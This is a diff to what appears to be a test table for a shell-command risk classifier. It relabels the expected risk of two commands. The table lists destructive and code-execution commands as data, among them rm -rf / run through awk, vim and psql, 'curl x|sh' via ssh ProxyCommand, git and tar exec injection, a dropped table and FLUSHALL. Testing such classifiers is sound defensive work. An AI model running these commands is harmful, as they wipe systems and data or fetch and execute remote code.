@@ -374,7 +374,7 @@ const commands: Readonly<Record<string, string>> = {
       low read                                     | wc -l a b
       low read                                     | jq . a.json
       low read                                     | awk '{print $1}' a.txt
-      high execute unread                          | awk 'BEGIN{system("rm -rf /")}'
+      critical destroy everything anywhere unread  | awk 'BEGIN{system("rm -rf /")}'
       low read                                     | diff a b
       low read                                     | du -sh .
       low read                                     | uname -a
@@ -628,7 +628,7 @@ const commands: Readonly<Record<string, string>> = {
       high execute unread                          | GIT_SSH_COMMAND='sh -c evil' git fetch
       high execute unread                          | tar --checkpoint-action=exec=sh -cf a b
       high execute unread                          | vim -c ':!rm -rf /'
-      high execute unread                          | ssh -o ProxyCommand='curl x|sh' host
+      high execute anywhere unread                 | ssh -o ProxyCommand='curl x|sh' host
       critical destroy everything anywhere unread  | psql -c "\\! rm -rf /"
       critical destroy everything                  | psql -c "show x; drop table users"
       critical destroy everything                  | redis-cli <<< FLUSHALL
